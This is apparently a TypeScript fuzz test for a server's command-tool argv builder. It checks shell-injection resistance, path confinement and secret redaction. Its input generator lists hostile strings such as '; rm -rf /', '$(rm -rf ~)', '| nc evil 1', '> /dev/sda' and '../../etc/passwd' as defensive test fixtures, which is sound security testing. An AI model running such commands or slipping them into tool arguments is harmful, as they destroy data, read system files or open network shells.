/** Command tools' argv building, fuzzed: a parameter is rejected by its schema or is exactly one literal argv element. */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, realpathSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, posix } from 'node:path';
import { after, describe, it } from 'node:test';
import fc from 'fast-check';
import { buildArgv, inputSchemaOf } from '../../../../server/src/commands/argv.js';
import { percentOf } from '../../../../server/src/commands/output.js';
import { redactor, secretValues } from '../../../../server/src/commands/secrets.js';
import { parseCommandsFile } from '../../../../server/src/commands/spec.js';
import { platformFor } from '../../../../server/src/platform/index.js';

// A real folder: path parameters are resolved on disk.
const PROJECT = realpathSync(mkdtempSync(join(tmpdir(), 'cmd-args-')));
mkdirSync(join(PROJECT, 'sub'));
after(() => rmSync(PROJECT, { recursive: true, force: true }));
const FILE = join(PROJECT, 'commands.json');
const [free, checked, path, viaShell] = parseCommandsFile(
    JSON.stringify({
        tools: [
            { name: 'free', description: 'd', command: ['prog', '--', '{text}', 'tail'], parameters: { text: { type: 'string', description: 'any' } } },
            { name: 'checked', description: 'd', command: ['prog', '{name}'], parameters: { name: { type: 'string', pattern: '[a-z0-9_-]+', description: 'a name' } } },
            { name: 'path', description: 'd', command: ['cat', '{file}'], cwd: 'sub', parameters: { file: { type: 'path', description: 'a file' } } },
            { name: 'shell', description: 'd', command: ['echo "$1"', '{text}'], shell: true, parameters: { text: { type: 'string', description: 'any' } } },
        ],
    }),
    FILE,
);

const hostile = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom('; rm -rf /', '$(rm -rf ~)', '`reboot`', 'a\nb', 'x\0y', '../../etc/passwd', '/etc/passwd', '"; echo pwned; "', '| nc evil 1', '&& id', '> /dev/sda'),
    fc.tuple(fc.string(), fc.constantFrom(';', '$(', '`', '\n', '\0', '|', '&', '..', '/'), fc.string()).map(parts => parts.join('')),
);

describe('command argv', () => {
    it('a free string is one literal element, whatever it holds (NUL is refused)', () => {
        fc.assert(
            fc.property(hostile, text => {
                const parsed = inputSchemaOf(free!).safeParse({ text });
                if (text.includes('\0') || text.length > 4096) {
                    assert.equal(parsed.success, false);
                    return;
                }
                assert.ok(parsed.success);
                assert.deepEqual(buildArgv(free!, parsed.data), ['prog', '--', text, 'tail']);
            }),
            { numRuns: 500 },
        );
    });

    it('with a pattern, anything outside it is refused', () => {
        fc.assert(
            fc.property(hostile, name => {
                const parsed = inputSchemaOf(checked!).safeParse({ name });
                // A whole element, so no leading "-": it would be an option.
                assert.equal(parsed.success, /^[a-z0-9_-]+$/.test(name) && !name.startsWith('-'));
                if (parsed.success) {
                    assert.deepEqual(buildArgv(checked!, parsed.data), ['prog', name]);
                }
            }),
            { numRuns: 500 },
        );
    });

    it('a path parameter cannot leave the working directory', () => {
        fc.assert(
            fc.property(hostile, file => {
                const parsed = inputSchemaOf(path!).safeParse({ file });
                if (parsed.success) {
                    const resolved = posix.resolve(`${PROJECT}/sub`, file);
                    assert.ok(resolved === `${PROJECT}/sub` || resolved.startsWith(`${PROJECT}/sub/`), `${file} escaped`);
                    assert.deepEqual(buildArgv(path!, parsed.data), ['cat', file]);
                }
            }),
            { numRuns: 500 },
        );
        assert.equal(inputSchemaOf(path!).safeParse({ file: '../x' }).success, false);
        assert.equal(inputSchemaOf(path!).safeParse({ file: '/etc/passwd' }).success, false);
    });

    it('with shell: true, a parameter is a positional argument of sh, never part of the script', () => {
        fc.assert(
            fc.property(hostile.filter(t => !t.includes('\0')), text => {
                // sh's argv on every OS the suite runs on (cmd.exe's is platform.test.ts's).
                assert.deepEqual(buildArgv(viaShell!, { text }, platformFor('linux')), ['/bin/sh', '-c', 'echo "$1"', 'shell', text]);
            }),
        );
    });

    it('refuses a placeholder inside an element, a cwd outside the roots, and names the entry and field', () => {
        const parse = (tool: object) => () => parseCommandsFile(JSON.stringify({ tools: [tool] }), FILE);
        assert.throws(parse({ name: 'x', description: 'd', command: ['p', '--f={f}.txt'], parameters: { f: { type: 'string', description: 'f' } } }), /tools\[0\] \(x\): command\[1\]: .*whole argv element or end one/);
        assert.throws(parse({ name: 'x', description: 'd', command: ['p'], cwd: '../elsewhere' }), /tools\[0\] \(x\): cwd: .* outside the declared roots/);
        assert.throws(parse({ name: 'x', description: 'd', command: ['{p}'], parameters: { p: { type: 'string', description: 'p' } } }), /command\[0\]: the program cannot be a parameter/);
        assert.throws(parse({ name: 'x', command: ['p'] }), /tools\[0\] \(x\): description: required/);
    });

    it('reads a percentage from n or n/m, and redacts secrets by value and by name', () => {
        assert.equal(percentOf(/(\d+)%/, 'at 42% now'), 42);
        assert.equal(percentOf(/(?<percent>\d+\/\d+) tests/, '3/4 tests'), 75);
        assert.equal(percentOf(/(\d+)%/, 'no number'), undefined);
        const env = { API_KEY: 'abcd1234', PATH: '/usr/bin', DEPLOY_PASSWORD: 'hunter22' };
        const redact = redactor(secretValues(env, { EXTRA: 'from-entry' }));
        assert.equal(redact('k=abcd1234 p=hunter22 e=from-entry path=/usr/bin'), 'k=*** p=*** e=*** path=/usr/bin');
    });
});
